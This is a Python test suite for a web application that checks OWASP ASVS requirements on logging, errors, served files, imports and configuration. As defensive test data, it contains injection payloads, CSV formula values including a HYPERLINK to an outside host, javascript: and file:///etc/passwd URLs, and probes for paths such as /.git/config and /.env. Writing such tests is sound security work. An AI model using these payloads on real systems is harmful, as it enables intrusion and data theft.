# SPDX-FileCopyrightText: 2026 werkzaam contributors
# SPDX-License-Identifier: EUPL-1.2
"""Requirements of OWASP ASVS 5.0 by their ids: logs, errors, files and what is configured."""
import csv
import datetime
import io
import json
import os
import re
import socket
import threading
import time
import unittest

from program import DONE, HOME, REFUSED, Filled, run
from test_asvs import Asvs
from test_matrix import Questions
from test_provider import HERE
from town import headers_of

MANAGER = 'organisation_administrator fresh'
WRONG = {'email': 'niemand@werkzaam.example', 'passphrase': 'verkeerde wachtzin'}
# What may lie in the data folder; docs/logs.md and deploy/README.md say what each is.
DATA_FILES = re.compile(r'werkzaam\.(sqlite(-wal|-shm)?|lock)|installation\.key|audit\.key|audit-heads\.txt')
WRITES = os.O_WRONLY | os.O_RDWR


def classes():
    """Class -> tags of its operations, as docs/classification.md has them."""
    with open(f'{HOME}/docs/classification.md', encoding='utf8') as file:
        rows = [line.split('|') for line in file if line.startswith('| ')][1:]
    return {row[1].strip(): set(re.findall('`([a-z-]+)`', row[2])) for row in rows}


class Classes(Asvs):
    """What docs/classification.md promises for each class of data."""

    def setUp(self):
        super().setUp()
        self.questions = Questions(self.server)
        with open(f'{HOME}/docs/api/openapi.json', encoding='utf8') as file:
            paths = json.load(file)['paths']
        self.operations = {one['operationId']: (method.upper(), path, one)
                           for path, methods in paths.items() for method, one in methods.items()
                           if 'operationId' in one}

    def of(self, name):
        tags = classes()[name]
        return {identity: known for identity, known in self.operations.items()
                if set(known[2]['tags']) & tags}

    def reading(self, name):
        """Those that show something and need no more than an address or a search."""
        return {identity: known for identity, known in self.of(name).items()
                if known[0] == 'GET' or known[1].endswith(('/_search', '/_export'))}

    def ask(self, identity, session):
        method, path, _ = self.operations[identity]
        return self.send(method, *self.questions.ask(identity, path, 'own org', 'rights_reviewer'), session)

    def records(self, operation):
        """(entries of the log, records of processing) of an operation."""
        count = lambda sql: self.rows.connection.execute(sql).fetchone()[0]
        return (count(f"SELECT count(*) FROM audit_entry WHERE action = 'read.{operation}'"),
                count(f"SELECT count(*) FROM processing_record WHERE name = '{operation}'"))

    def test_V14_2_4_every_operation_is_in_one_class(self):
        found = [identity for name in classes() for identity in self.of(name)]
        self.assertEqual(sorted(found), sorted(self.operations))
        self.assertFalse(self.of('secrets'))

    def test_V14_2_4_open_knowledge_is_for_everybody_and_leaves_no_trace(self):
        for identity in self.reading('open knowledge'):
            self.assertNotIn('security', self.operations[identity][2], identity)
            self.assertEqual(self.ask(identity, None).status, 200, identity)
            self.assertEqual(self.records(identity), (0, 0), identity)

    def test_V14_2_4_what_is_ones_own_is_not_for_visitors_and_is_recorded(self):
        asked = [identity for identity, known in self.reading('one\'s own').items() if 'security' in known[2]]
        self.assertIn('listFactors', asked)
        for identity in asked:
            self.assertEqual(self.ask(identity, None).status, 401, identity)
            answer = self.ask(identity, 'policy_adviser one_factor')
            self.assertEqual(answer.status, 200, identity)
            self.assertEqual(answer.headers['Cache-Control'], 'no-store', identity)
            logged, recorded = self.records(identity)
            self.assertEqual(logged, 0, identity)
            self.assertGreater(recorded, 0, identity)

    def test_V14_2_4_people_are_shown_after_it_is_logged(self):
        who = {'listInvitations': MANAGER, 'readRightsReview': 'rights_reviewer two_factors'}
        asked = self.reading('people of an organisation')
        self.assertIn('listMemberships', asked)
        for identity in asked:
            self.assertEqual(self.ask(identity, None).status, 401, identity)
            self.assertEqual(self.records(identity), (0, 0), identity)
            answer = self.ask(identity, who.get(identity, 'rights_reviewer two_factors'))
            self.assertEqual(answer.status, 200, identity)
            self.assertEqual(answer.headers['Cache-Control'], 'no-store', identity)
            logged, recorded = self.records(identity)
            self.assertGreater(logged, 0, identity)
            # A list of reviews says how many people are in each, not who.
            self.assertEqual(recorded > 0, identity != 'listRightsReviews', identity)

    def test_V14_2_4_accountability_is_shown_for_a_purpose_and_that_is_logged(self):
        officer = 'protection_officer two_factors'
        asked = self.reading('accountability')
        self.assertIn('searchDisclosures', asked)
        for identity in asked:
            self.assertEqual(self.ask(identity, None).status, 401, identity)
            self.assertEqual(self.ask(identity, 'protection_officer one_factor').status, 401, identity)
            self.assertEqual(self.ask(identity, MANAGER).status, 403, identity)
            method, path, _ = self.operations[identity]
            without = self.server.request(method, f'/v1{path}', '{}', {
                **headers_of(officer), 'Content-Type': 'application/json'})
            self.assertEqual((without.status, without.json()['code']), (400, 'access.purpose'), identity)
            self.assertEqual(self.records(identity)[0], 0, identity)
            self.assertEqual(self.ask(identity, officer).status, 200, identity)
            self.assertGreater(self.records(identity)[0], 0, identity)
            self.assertEqual(self.rows.connection.execute(
                f"SELECT DISTINCT purpose FROM audit_entry WHERE action = 'read.{identity}'").fetchall(),
                [('oversight',)], identity)


class Logs(Asvs):
    def lines(self):
        return [json.loads(line) for line in self.server.log().splitlines()]

    def test_V16_2_2_times_are_utc_wherever_the_server_stands(self):
        self.server.stop()
        self.server = self.serve(more={'TZ': 'Pacific/Auckland'})
        self.server.post('/v1/sessions', WRONG)
        self.get('/v1/memberships', MANAGER)
        found = self.send('POST', '/audit-entries/_search', {}, 'protection_officer two_factors').json()
        now = datetime.datetime.now(datetime.timezone.utc)
        times = [line['time'] for line in self.lines()] + [line['at'] for line in found['items']]
        self.assertGreater(len(found['items']), 1)
        for moment in times:
            self.assertTrue(moment.endswith('Z'), moment)
            away = abs((now - datetime.datetime.fromisoformat(moment.replace('Z', '+00:00'))))
            self.assertLess(away, datetime.timedelta(minutes=5), moment)

    def test_V16_2_1_V16_2_4_every_line_is_read_by_a_program_and_says_who_what_when(self):
        trace = '4bf92f3577b34da6a3ce929d0e0e4736'
        self.get('/v1/memberships', MANAGER, traceparent=f'00-{trace}-00f067aa0ba902b7-01')
        self.get('/v1/nothing/%0a%22,"event":"x', Accept_Language='x"\\')
        self.server.post('/v1/sessions', WRONG)
        self.get('/v1/invitations', 'policy_adviser fresh')
        events = {}
        for line in self.lines():
            self.assertTrue({'time', 'level', 'event'} <= set(line), line)
            self.assertTrue(all(isinstance(value, str) for value in line.values()), line)
            events.setdefault(line['event'], []).append(line)
        self.assertEqual(len(events['request']), 4)
        for line in events['request']:
            self.assertTrue({'method', 'route', 'status', 'ms', 'trace'} <= set(line), line)
        self.assertEqual(events['request'][0]['trace'], trace)  # of whoever asked: lines of several
        self.assertTrue({'outcome', 'how', 'person', 'session', 'address'}
                        <= set(events['authentication'][0]))
        self.assertTrue({'route', 'rule', 'session'} <= set(events['refused'][0]))

    def test_V16_2_3_nothing_is_written_anywhere_else(self):
        for session in (None, MANAGER, 'protection_officer two_factors'):
            for path in ('/v1/memberships', '/v1/interventions', '/', '/v1/nothing'):
                self.get(path, session)
        self.server.post('/v1/sessions', WRONG)
        process = self.server.process.pid
        for name in os.listdir(f'/proc/{process}/fd'):
            try:
                target = os.readlink(f'/proc/{process}/fd/{name}')
                with open(f'/proc/{process}/fdinfo/{name}', encoding='ascii') as file:
                    flags = int(re.search(r'flags:\s+(\d+)', file.read())[1], 8)
            except FileNotFoundError:
                continue
            if target.startswith('/') and flags & WRITES and int(name) > 2:
                self.assertTrue(target.startswith(f'{self.data}/'), target)
        found = [os.path.relpath(os.path.join(folder, name), self.data)
                 for folder, _, names in os.walk(self.data) for name in names]
        for name in found:
            self.assertTrue(DATA_FILES.fullmatch(name) or name == 'test.log', name)

    def test_V16_3_3_attempts_to_get_around_are_written_down(self):
        forged = {'Cookie': headers_of(MANAGER)['Cookie'], 'Content-Type': 'application/json'}
        self.server.request('POST', '/v1/sessions/_end-others', '{}', forged)
        self.send('POST', '/invitations', {'role': 7}, MANAGER)
        for _ in range(12):
            self.server.post('/v1/sessions', WRONG)
        self.get('/v1/invitations', 'policy_adviser fresh')
        lines = self.lines()
        found = [(line['event'], line.get('route'), line.get('outcome')) for line in lines]
        self.assertIn(('forged', '/v1/sessions/_end-others', None), found)
        self.assertIn(('authentication', None, 'failure'), found)
        self.assertIn(('authentication', None, 'wait'), found)
        self.assertIn(('refused', '/invitations', None), found)
        answers = [(line['route'], line['status']) for line in lines if line['event'] == 'request']
        for answer in (('/v1/sessions/_end-others', '403'), ('/v1/invitations', '400'),
                       ('/v1/sessions', '429'), ('/v1/invitations', '403')):
            self.assertIn(answer, answers)


class Errors(Asvs):
    def test_V13_4_2_V16_3_4_V16_5_1_V16_5_4_an_error_is_told_by_its_number_only(self):
        self.server.stop()
        self.server = self.serve(more={'WERKZAAM_LOG_LEVEL': 'debug'})  # in no way louder outside
        for table, path in (('membership', '/v1/memberships'), ('outcome', '/v1/outcomes')):
            self.rows.run([f'ALTER TABLE {table} RENAME TO {table}_gone'])
            answer = self.get(path, MANAGER)
            self.assertEqual(answer.status, 500, path)
            incident = answer.json()['incident']
            told = answer.body.decode() + str(answer.headers)
            self.assertNotRegex(told, r'(?i)sql|no such table|membership_|_store|\.cpp|exception|0x[0-9a-f]')
            logged = [line for line in map(json.loads, self.server.log().splitlines())
                      if line.get('incident') == incident]
            self.assertEqual(len(logged), 1)
            self.assertEqual((logged[0]['level'], logged[0]['event']), ('error', 'incident'))
            self.assertIn(table, logged[0]['reason'])
            # Nothing else is touched by it, and it passes.
            self.assertEqual(self.get('/v1/interventions').status, 200)
            self.rows.run([f'ALTER TABLE {table}_gone RENAME TO {table}'])
            self.assertEqual(self.get(path, MANAGER).status, 200)
        self.assertIsNone(self.server.process.poll())

    def test_V16_5_3_what_cannot_be_recorded_is_neither_shown_nor_done(self):
        self.rows.run(["CREATE TRIGGER full BEFORE INSERT ON audit_entry BEGIN "
                       "SELECT RAISE(ABORT, 'cannot write'); END"])
        before = self.rows_of_everything()
        answer = self.get('/v1/memberships', MANAGER)
        self.assertGreaterEqual(answer.status, 500)
        self.assertNotIn(b'Name of', answer.body)
        offer = {'organisation': 'GM0546', 'role': 'evaluator', 'name': 'Iemand',
                 'email': 'iemand@werkzaam.example'}
        self.assertGreaterEqual(self.send('POST', '/invitations', offer, MANAGER).status, 500)
        self.assertEqual(self.rows_of_everything(), before)
        self.rows.run(['DROP TRIGGER full'])
        self.assertEqual(self.send('POST', '/invitations', offer, MANAGER).status, 201)

    def test_V16_5_3_who_cannot_be_looked_up_is_nobody(self):
        self.rows.run(['ALTER TABLE session RENAME TO session_gone'])
        for path in ('/v1/session', '/v1/memberships', '/v1/account'):
            answer = self.get(path, MANAGER)
            self.assertGreaterEqual(answer.status, 401, path)
            self.assertNotIn(b'Name of', answer.body)


class Files(Asvs):
    def test_V13_4_1_V13_4_3_no_other_files_and_no_lists(self):
        page = self.get('/', Accept='text/html').body
        hidden = [path.split('/')[-1] for path in self.assets() if path.encode() not in page]
        self.assertGreater(len(hidden), 5)
        for path in ('/.git/config', '/.git/HEAD', '/.svn/entries', '/.hg/store', '/.gitignore', '/.env',
                     '/package.json', '/src/main.tsx', '/../web/package.json', '/%2e%2e/package.json',
                     '/assets/', '/assets', '/assets/..', '/v1/', '/.well-known/', '/werkzaam.sqlite'):
            for accept in ('*/*', 'text/html'):
                answer = self.get(path, Accept=accept)
                self.assertTrue(answer.status in (400, 404) or answer.body == page, (path, accept))
                for name in hidden:
                    self.assertNotIn(name.encode(), answer.body, path)

    def test_V13_4_5_nothing_about_the_inside_is_served(self):
        page = self.get('/', Accept='text/html').body
        for path in ('/metrics', '/debug', '/debug/pprof', '/actuator/health', '/server-status', '/status',
                     '/swagger', '/docs', '/admin', '/graphql', '/phpinfo.php', '/console', '/trace',
                     '/v1/metrics', '/v1/docs', '/v1/debug', '/v1/admin'):
            for session in (None, 'site_administrator fresh'):
                answer = self.get(path, session)
                self.assertTrue(answer.status == 404 or answer.body == page, path)
        # What is there for machines says no more than whether it works.
        self.assertEqual(self.get('/healthz', 'site_administrator fresh').json(), {'status': 'ok'})

    def test_V13_4_6_no_part_says_its_version(self):
        parts = re.compile(r'(?i)(sqlite|postgres\w*|openssl|boost|beast|libsodium|curl|icu|spdlog|gcc|'
                           r'debian|linux|nginx)[ /_-]*v?\d')
        for what, answer in self.answers():
            for name in ('Server', 'X-Powered-By', 'Via', 'X-Runtime'):
                self.assertNotIn(name, answer.headers, what)
            if what not in self.assets():
                self.assertNotRegex(answer.body.decode('utf8', 'replace'), parts, what)

    def test_V14_2_5_what_is_not_there_is_not_something_else(self):
        for path in ('/account.css', '/account/x.js', '/v1/account/x.css', '/v1/account.css',
                     '/v1/session/a.jpg', '/assets/gone.js', '/interventies/x.png', '/v1/account%2fa.css',
                     '/v1/account;a.css', '/v1/session%00.js'):
            answer = self.get(path, MANAGER, Accept='text/html,*/*')
            self.assertIn(answer.status, (400, 404), path)
            self.assertNotIn('max-age', answer.headers.get('Cache-Control', ''), path)
        for path in self.assets()[:5]:
            answer = self.get(path, MANAGER)
            self.assertIn('immutable', answer.headers['Cache-Control'])
            self.assertRegex(answer.headers['Content-Type'], r'^(text/(javascript|css)|font/|image/)')


class Imports(Filled):
    """Text of a file that somebody took in, on its way to programs and to spreadsheets."""

    def with_changed(self, kind, **values):
        """The shipped table of this kind with other values in its first row; what importing says."""
        with open(f'{HOME}/data/{kind}.csv', encoding='utf8', newline='') as file:
            rows = list(csv.DictReader(file))
        rows[0].update(values)
        return rows[0], self.take_in(kind, self.table(f'{kind}.csv', rows))

    def test_V1_2_3_text_stays_text_in_json(self):
        hostile = 'a"},{"id":"x\\","</script><!--\u2028\u2029\U0001f6b2&lt;\'`${x}'
        row, done = self.with_changed('interventions', name=hostile)
        self.assertEqual(done.returncode, DONE, done.stderr)
        server = self.serve()
        self.assertEqual(server.get(f'/v1/interventions/{row["code"]}').json()['name'], hostile)
        names = [item['name'] for item in
                 server.get('/v1/interventions?pageSize=100&sort=name').json()['items']]
        self.assertEqual(names.count(hostile), 1)

    def test_V1_2_10_no_formula_reaches_a_spreadsheet(self):
        for start in ('=', '+', '-', '@', '=HYPERLINK("https://elsewhere.example?"&A1,"x")'):
            name = f'{start}cmd|x'
            row, done = self.with_changed('interventions', name=name)
            self.assertEqual(done.returncode, DONE, done.stderr)
            with_name = None
            server = self.serve()
            answer = server.get('/v1/interventions/_export', Accept='text/csv')
            for line in csv.DictReader(io.StringIO(answer.body.decode())):
                if line['code'] == row['code']:
                    with_name = line['name']
            self.assertEqual(with_name, "'" + name)
            self.assertNotRegex(answer.body.decode(), r'(?m)(^|,)"?[=+@]')
            server.stop()

    def test_V1_2_2_only_web_addresses_become_links(self):
        for address in ('javascript:alert(1)', 'JavaScript:alert(1)', 'data:text/html,x', 'file:///etc/passwd',
                        'vbscript:x', ' javascript:x', '//elsewhere.example', 'https:javascript:x',
                        'ftp://elsewhere.example/x', 'java\tscript:alert(1)'):
            for kind, column in (('sources', 'url'), ('interventions', 'manual_url'),
                                 ('evaluations', 'url')):
                _, done = self.with_changed(kind, **{column: address})
                self.assertEqual(done.returncode, REFUSED, (kind, address, done.stdout))
        _, done = self.with_changed('sources', url='https://www.example.nl/een?x=1#a')
        self.assertEqual(done.returncode, DONE, done.stderr)


class Configuration(Filled):
    def test_V13_2_3_V13_4_2_what_is_shipped_has_no_password_and_no_debug_mode(self):
        with open(f'{HOME}/deploy/debian/werkzaam.toml', encoding='utf8') as file:
            shipped = file.read()
        self.assertNotRegex(shipped, r'(?i)passw|secret|://[^/\s]*:[^/\s]*@|debug')
        done = run('config', 'check', '--config', f'{HOME}/deploy/debian/werkzaam.toml')
        self.assertEqual(done.returncode, DONE, done.stderr)
        self.assertRegex(done.stdout, r'log_level\W+info')
        self.assertRegex(done.stdout, r'\bdb\W+sqlite')
        self.assertNotRegex(done.stdout, r'(?i)passw|secret')

    def test_V13_2_6_a_provider_that_never_answers_is_given_up_after_five_seconds(self):
        listener = socket.create_server(('127.0.0.1', 0))
        self.addCleanup(listener.close)
        server = self.serve(more=HERE)
        file = self.write('provider.json', json.dumps({
            'organisation': 'GM0518', 'name': 'Stil', 'clientId': 'werkzaam', 'admission': 'everyone',
            'issuer': f'http://127.0.0.1:{listener.getsockname()[1]}',
            'roles': [{'value': 'beleid', 'role': 'policy_adviser'}], 'secondFactors': []}))
        done = run('provider', 'add', file, '--data', self.data, '--port', server.port, more=HERE)
        self.assertEqual(done.returncode, DONE, done.stderr)
        told, began = [], time.monotonic()
        asked = threading.Thread(target=lambda: told.append(server.post(
            '/v1/sessions/_provider', {'provider': json.loads(done.stdout)['id']})))
        asked.start()
        time.sleep(0.5)
        self.assertEqual(server.get('/v1/interventions').status, 200)  # others do not wait for it
        self.assertLess(time.monotonic() - began, 4)
        asked.join()
        self.assertEqual((told[0].status, told[0].json()['code']), (503, 'provider.unreachable'))
        self.assertLess(time.monotonic() - began, 8)
        self.assertIn('"event":"provider_unreachable"', server.log())


if __name__ == '__main__':
    unittest.main()
